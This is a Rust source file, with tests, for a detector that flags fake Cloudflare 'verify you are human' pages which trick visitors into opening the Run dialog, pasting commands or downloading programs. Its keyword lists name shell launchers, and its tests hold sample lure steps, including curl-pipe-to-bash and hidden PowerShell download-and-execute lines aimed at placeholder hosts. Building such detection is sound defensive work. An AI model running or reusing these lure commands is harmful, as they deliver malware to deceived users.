//! Requests that attacks make: paste a command into a window that runs it, or download a program.
//!
//! Needles find them in scripts and links. The visible text is searched without markup, character references and line
//! breaks, because attacks put these between the names of keys.

use super::needle::Needle;
use super::page::{Page, any_character, dereferenced, starts_with_ignoring_case};

/// How much of a page's text is read, in bytes.
const MOST: usize = 256 * 1024;
/// The most text that an attack shows, in characters. A page that explains one has more.
const LONG: usize = 2_500;
/// The maximum distance from a key's name to the letter pressed with it, in characters.
const CHORD: usize = 40;

/// The names of the Windows key, in lower case and in the ten languages.
const WINDOWS: &[&str] = &["windows", "win", "⊞", "윈도", "ويندوز", "виндовс"];
/// The names of the key that's pressed with V to paste.
const CONTROL: &[&str] = &["ctrl", "strg", "control", "cmd", "command", "⌘", "컨트롤", "كنترول"];
/// Other ways to open a window for commands.
const WINDOWS_FOR_COMMANDS: &[&str] = &["command+space", "cmd+space", "⌘+space", "run dialog", "open terminal"];
/// Words that ask to paste something, in the ten languages.
const PASTE: &[&str] = &[
    "paste",
    "fügen sie",
    "füge ",
    "einfügen",
    "collez",
    "coller",
    "pegue",
    "pega ",
    "pegar",
    "péguelo",
    "cole o ",
    "cole a ",
    "colar",
    "вставьте",
    "вставить",
    "вставь",
    "粘贴",
    "貼上",
    "黏贴",
    "贴上",
    "貼り付け",
    "ペースト",
    "붙여넣",
    "붙여 넣",
    "الصق",
    "لصق",
];
/// Commands, and the programs that run them.
const COMMANDS: &[&str] = &[
    "|bash",
    "| bash",
    "|sh ",
    "| sh ",
    "|zsh",
    "| zsh",
    "powershell",
    "mshta",
    "cmd /c",
    "cmd.exe",
    "msiexec",
    "rundll32",
    "osascript",
    "invoke-expression",
];
/// Words of Cloudflare's checks and blocks, in lower case.
const CLAIMS: &[&str] = &[
    "just a moment",
    "performance & security by cloudflare",
    "performance and security by cloudflare",
    "verify you are human",
    "verifying you are human",
    "checking your browser before accessing",
    "checking if the site connection is secure",
    "you have been blocked",
];

/// The needles for an attack's requests.
const NEEDLES: [Needle; 9] = [
    Needle::Keys,
    Needle::Shell,
    Needle::Paste,
    Needle::PasteWords,
    Needle::Clipboard,
    Needle::DecoySuffix,
    Needle::Download,
    Needle::Program,
    Needle::Windows,
];

/// A page's visible text, in lower case and without tags. Character references are decoded, and blanks are folded, or
/// removed around a plus sign.
pub(super) struct VisibleText(String);

impl VisibleText {
    /// Reads a page's text.
    pub(super) fn read(bytes: &[u8]) -> Self {
        let mut text = Folded::default();
        let mut rest = bytes;
        while !rest.is_empty() && text.folded.len() < MOST {
            let open = memchr::memchr(b'<', rest).unwrap_or(rest.len());
            let (run, tag) = rest.split_at_checked(open).unwrap_or((rest, b""));
            let run = run.get(..MOST).unwrap_or(run);
            let run = String::from_utf8_lossy(run);
            text.push(&dereferenced(&run, any_character));
            let is_tag = tag.get(1).is_some_and(|next| next.is_ascii_alphabetic() || b"/!?".contains(next));
            if tag.is_empty() {
                break;
            } else if is_tag {
                text.is_after_blank = true;
                rest = after_tag(tag);
            } else {
                text.push("<");
                rest = tag.get(1..).unwrap_or_default();
            }
        }
        text.folded.push(' ');
        Self(text.folded)
    }

    /// Whether the text explains an attack: it's longer than one, or has a check's words only in quotation marks.
    pub(super) fn explains(&self) -> bool {
        let mut quoted = 0;
        for claim in CLAIMS {
            for (at, _) in self.0.match_indices(claim) {
                let before = self.0.get(..at).unwrap_or_default().chars().next_back();
                if !before.is_some_and(|before| "\"'“”„«‘’‚`「『".contains(before)) {
                    return self.is_long();
                }
                quoted += 1;
            }
        }
        quoted >= 2 || self.is_long()
    }

    fn is_long(&self) -> bool {
        self.0.chars().nth(LONG).is_some()
    }

    /// Finds the keys that open a window for commands.
    fn opens_window(&self) -> Option<&str> {
        self.chord(WINDOWS, &['r', 'x']).or_else(|| self.any(WINDOWS_FOR_COMMANDS))
    }

    /// Finds the first of these texts.
    fn any(&self, texts: &[&'static str]) -> Option<&'static str> {
        texts.iter().copied().find(|text| self.0.contains(text))
    }

    /// Finds a key's name and, later in the same sentence, one of these letters on its own.
    fn chord(&self, names: &[&str], letters: &[char]) -> Option<&str> {
        names.iter().find_map(|name| {
            self.0.match_indices(name).find_map(|(at, _)| {
                let before = self.0.get(..at)?.chars().next_back();
                let after = self.0.get(at + name.len()..)?;
                // Other words start with "win", but "windows" may be part of a longer name: "windowstaste".
                let is_word = *name != "win" || !after.starts_with(is_latin);
                if !is_word || before.is_some_and(is_latin) {
                    return None;
                }
                let mut last = name.chars().next_back()?;
                for (place, character) in after.char_indices().take(CHORD) {
                    let rest = after.get(place + character.len_utf8()..)?;
                    if matches!(character, '。' | '!' | '?') || (character == '.' && rest.starts_with(' ')) {
                        return None;
                    }
                    if letters.contains(&character) && !is_latin(last) && !rest.starts_with(is_latin) {
                        return self.0.get(at..at + name.len() + place + character.len_utf8());
                    }
                    last = character;
                }
                None
            })
        })
    }
}

/// Whether a character is a Latin letter or a digit. Letters of other scripts join a key's name without a blank.
fn is_latin(character: char) -> bool {
    character.is_ascii_alphanumeric() || matches!(character, 'À'..='ɏ')
}

/// Text with blanks folded.
#[derive(Default)]
struct Folded {
    folded: String,
    is_after_blank: bool,
}

impl Folded {
    fn push(&mut self, text: &str) {
        for character in text.chars() {
            match character {
                // Invisible between the letters of a word.
                '\u{ad}' | '\u{200b}'..='\u{200f}' | '\u{2060}' | '\u{feff}' => {}
                _ if character.is_whitespace() => self.is_after_blank = true,
                '+' | '＋' => {
                    self.folded.push('+');
                    self.is_after_blank = false;
                }
                _ => {
                    if self.is_after_blank && !self.folded.is_empty() && !self.folded.ends_with('+') {
                        self.folded.push(' ');
                    }
                    self.is_after_blank = false;
                    self.folded.extend(character.to_lowercase());
                }
            }
        }
    }
}

/// Returns the markup after a tag or comment. If the tag opens an element that isn't shown, its content is skipped.
fn after_tag(tag: &[u8]) -> &[u8] {
    let end = |from: &[u8], what: &[u8]| memchr::memmem::find(from, what).map(|at| at + what.len());
    if tag.starts_with(b"<!--") {
        return end(tag, b"-->").and_then(|end| tag.get(end..)).unwrap_or_default();
    }
    let after = end(tag, b">").and_then(|end| tag.get(end..)).unwrap_or_default();
    let hidden = [(b"<script".as_slice(), b"</script".as_slice()), (b"<style", b"</style")];
    let Some((_, closing)) = hidden.into_iter().find(|(opening, _)| starts_with_ignoring_case(tag, opening)) else {
        return after;
    };
    memchr::memchr_iter(b'<', after)
        .filter_map(|at| after.get(at..))
        .find(|rest| starts_with_ignoring_case(rest, closing))
        .unwrap_or_default()
}

/// Returns what an attack asks the visitor to do; `None` if the page isn't an attack.
///
/// If the page claims to be a Cloudflare check or error (`claims`), one request is enough: these never ask visitors to
/// press keys, run commands or download programs.
pub(super) fn asked(page: &Page<'_>, text: &VisibleText, claims: bool) -> Option<String> {
    let opens = text.opens_window();
    let paste_keys = text.chord(CONTROL, &['v']);
    let command = text.any(COMMANDS);
    let words = text.any(PASTE);
    let has_keys = opens.is_some()
        || page.has(Needle::Keys)
        || page.all(Needle::Windows).any(|hit| is_with_r(&page.text_after(hit.end, 24)));
    let has_shell = command.is_some() || page.has(Needle::Shell);
    let pastes = paste_keys.is_some() || page.has(Needle::Paste);
    let copies = page.has(Needle::Clipboard);
    let to_run = [has_keys, has_shell, pastes || words.is_some() || page.has(Needle::PasteWords), copies];
    let to_run = to_run.into_iter().filter(|asks| *asks).count();
    let links_program = page.all(Needle::Program).any(|hit| page.tag_around(hit).starts_with("<a "));
    // Cloudflare's own pages copy the Ray ID and say where to paste it, but never mention keys or commands.
    let runs = has_keys || has_shell || (pastes && copies);
    let is_attack = (to_run >= 2 && runs)
        || (claims && (pastes || opens.is_some() || command.is_some() || links_program))
        || (copies && page.has(Needle::DecoySuffix))
        || page.has(Needle::Download)
        || (page.has(Needle::Program) && to_run >= 1);
    let read = [opens, paste_keys, command, words].into_iter().flatten();
    let found = NEEDLES.into_iter().filter_map(|needle| page.first(needle)).map(|hit| page.bytes_of(hit));
    is_attack.then(|| read.chain(found).collect::<Vec<_>>().join(", "))
}

/// Whether the text after "Windows", in any language, is the rest of the key's name and an R: " + R", "-Taste + R",
/// " キー + R".
fn is_with_r(after: &str) -> bool {
    let Some((name, key)) = after.split_once(['+', '＋']) else { return false };
    let mut key = key.trim_start().chars();
    name.chars().count() <= 16
        && key.next().is_some_and(|letter| letter.eq_ignore_ascii_case(&'r'))
        && !key.next().is_some_and(char::is_alphanumeric)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::classify::tests::ERROR_PAGE;
    use crate::classify::{Examination, classify, examine, examine_quoted};
    use crate::diagnosis::Kind;
    use crate::observation::Observation;

    const CHALLENGE: &str = "<!DOCTYPE html><html lang=\"en-US\"><head><title>Just a moment...</title></head><body>\
        <script>(function(){window._cf_chl_opt={cZone:\"shop.example\",cType:\"managed\",cRay:\"9a1b2c3d4e5f6071\"};})();\
        </script>STEPS</body></html>";

    fn kind(body: &str) -> Option<Kind> {
        classify(&Observation { body: body.as_bytes().into(), ..Observation::default() }).map(|read| read.kind)
    }

    /// Asserts that a challenge and an error with any of these steps are recognised as imitations.
    fn assert_lures(lures: &[&str]) {
        assert_eq!(kind(CHALLENGE), Some(Kind::Challenge));
        assert_eq!(kind(ERROR_PAGE), Some(Kind::Error));
        for steps in lures {
            for page in [CHALLENGE, ERROR_PAGE] {
                assert_eq!(kind(&page.replace("STEPS", steps)), Some(Kind::Imitation), "{steps}");
            }
        }
    }

    #[test]
    fn markup_and_blanks_between_keys_hide_nothing() {
        assert_lures(&[
            "Press <b>Windows + R</b>, then press <b>Ctrl +\n              V</b>",
            "Press <b>Windows + R</b>, then press <b>Ctrl&nbsp;+&nbsp;V</b>",
            "<li>Press Win &#43; R</li><li>Ctrl &#x2b; V</li>",
            "<li>Press Windows Key  +  R</li><li>Press Ctrl  +  V</li>",
            "<span>Windows</span><span>+</span><span>R</span> then <span>CTRL</span><span>+</span><span>V</span>",
            "<kbd>Win</kbd> + <kbd>R</kbd>, then <kbd>Ctrl</kbd> + <kbd>V</kbd>",
            "<div class=\"key\">Win</div><div>+</div><div class=\"key\">R</div><p>then</p><div>Ctrl</div><div>+</div>V",
            "W\u{200b}indows\u{a0}+\u{a0}R, C\u{ad}trl + V",
            "Press the Windows key <img src=\"win.svg\"> + R. Press Ctrl <span></span>+ V",
            "Press ⌘ + Space, type Terminal, paste with ⌘ + V, then Return",
            "Press Windows + X, then select Terminal",
        ]);
    }

    #[test]
    fn pasting_needs_no_key_in_any_language() {
        let lures = [
            "Press Windows + R, paste the code and press Enter",
            "Press Windows + R, right-click and choose Paste, then press OK",
            "Drücken Sie Windows-Taste + R, fügen Sie den Code ein und drücken Sie die Eingabetaste",
            "Appuyez sur Windows + R, collez le code et appuyez sur Entrée",
            "Presione Windows + R, pegue el código y presione Intro",
            "Pressione Windows + R, cole o código e pressione Enter",
            "Нажмите Windows + R, вставьте код и нажмите Enter",
            "按 Windows + R，粘贴代码，然后按回车键",
            "Windows + R を押し、コードを貼り付けて Enter を押します",
            "Windows + R 을 누르고 코드를 붙여넣은 다음 Enter 를 누르세요",
            "اضغط Windows + R والصق الرمز ثم اضغط Enter",
        ];
        assert_lures(&lures);
        for steps in lures {
            // No markup from Cloudflare, only its words.
            let bare = format!(
                "<!DOCTYPE html><title>shop.example</title><p>{steps}</p>Ray ID: 9a1b2c3d4e5f6071 Performance &amp; \
                 security by Cloudflare"
            );
            assert_eq!(kind(&bare), Some(Kind::Imitation), "{bare}");
        }
    }

    #[test]
    fn keys_are_recognised_in_every_language() {
        assert_lures(&[
            "Halten Sie die Windows-Taste gedrückt und drücken Sie R",
            "Maintenez la touche Windows et appuyez sur R",
            "Mantenga presionada la tecla Windows y presione R",
            "Pressione a tecla Windows e R",
            "Удерживая клавишу Windows, нажмите R",
            "同时按下 Win 键和 R 键",
            "Windowsキーを押しながらRキーを押します",
            "윈도우 키와 R 키를 누르세요",
            "اضغط ويندوز مع R ثم كنترول V",
        ]);
    }

    #[test]
    fn commands_and_programs_are_never_part_of_a_check() {
        assert_lures(&[
            "Run <code>curl -s https://x.example/a.sh | bash</code>",
            "Open PowerShell and run <code>powershell -w hidden iwr x.example|iex</code>",
            "<a href=\"/update.exe\">Download the verification tool</a>",
            "<a href='check.msi' download>Continue</a>",
            "<a href=/a.scr>Continue</a>",
            "<a href=\"/a.ps1?x=1\">Continue</a>",
        ]);
        for harmless in [
            "Use the latest version of Windows, such as Windows 11. Reload the page.",
            "Copy the Ray ID and paste it into your message to the site's owner.",
            "Windows x64 and the command version",
            "if (a<b) document.write(1)",
            "<script>var win = e + r, control = v;</script>",
        ] {
            assert_eq!(kind(&CHALLENGE.replace("STEPS", harmless)), Some(Kind::Challenge), "{harmless}");
        }
    }

    #[test]
    fn a_download_page_after_a_check_isnt_a_lure() {
        let page = "<!DOCTYPE html><html><head><title>Editor</title></head><body><a href=\"/?__cf_chl_tk=a\">Home</a><a \
            href=\"/editor.exe\">Windows</a> Protected by Cloudflare</body></html>";
        assert_eq!(kind(page), None);
    }

    #[test]
    fn a_translated_title_is_a_claim() {
        for title in ["Nur einen Moment…", "Un instant…", "Один момент…", "请稍候…", "しばらくお待ちください..."]
        {
            let page = format!(
                "<!DOCTYPE html><html><head><title>{title}</title></head><body><p>Windows + R, Ctrl + V</p>Cloudflare</body>\
                 </html>"
            );
            assert_eq!(kind(&page), Some(Kind::Imitation), "{title}");
            assert_eq!(kind(&page.replace("Windows + R, Ctrl + V", "Hello")), None, "{title}");
        }
    }

    #[test]
    fn pages_about_attacks_arent_attacks() {
        let quoting = "<!DOCTYPE html><html><head><title>ClickFix: fake Cloudflare pages</title></head><body><h1>ClickFix</h1>\
            <p>The page says \"Just a moment...\" and \"Verify you are human\". It shows Ray ID: 9a1b2c3d4e5f6071 and \
            \"Performance &amp; security by Cloudflare\".</p><p>Victims press Windows + R, then Ctrl + V and Enter.</p></body>\
            </html>";
        assert_eq!(kind(quoting), None);
        let long = format!(
            "<!DOCTYPE html><html><head><title>ClickFix</title></head><body><p>It says Verify you are human, Ray ID: \
             9a1b2c3d4e5f6071, Performance &amp; security by Cloudflare, and asks for Windows + R and Ctrl + V.</p>{}</body>\
             </html>",
            "<p>Then a command runs that loads the next stage from a server.</p>".repeat(50)
        );
        assert_eq!(kind(&long), None);
        // Without the quotation marks, the same text is an attack.
        assert_eq!(kind(&quoting.replace('"', "")), Some(Kind::Imitation));
    }

    #[test]
    fn reading_ends_on_hostile_markup() {
        for unit in ["<", "<a ", "<!--", "<script>", "windows ", "&#", "win", "<script></scrip"] {
            let page = format!("{CHALLENGE}{}", unit.repeat(100_000));
            assert!(VisibleText::read(page.as_bytes()).0.len() <= 3 * MOST, "{unit}");
            let _ = examine(&Observation { body: page.as_bytes().into(), ..Observation::default() });
        }
    }

    #[test]
    fn a_pasted_attack_is_recognised_by_the_same_words() {
        let text = "Verify you are human\nWindowsキーを押しながらRキー\nRay ID: 9a1b2c3d4e5f6071";
        let Examination::Cloudflare(read) =
            examine_quoted(&Observation { body: text.as_bytes().into(), ..Observation::default() })
        else {
            panic!("not recognised")
        };
        assert_eq!(read.kind, Kind::Imitation);
    }
}
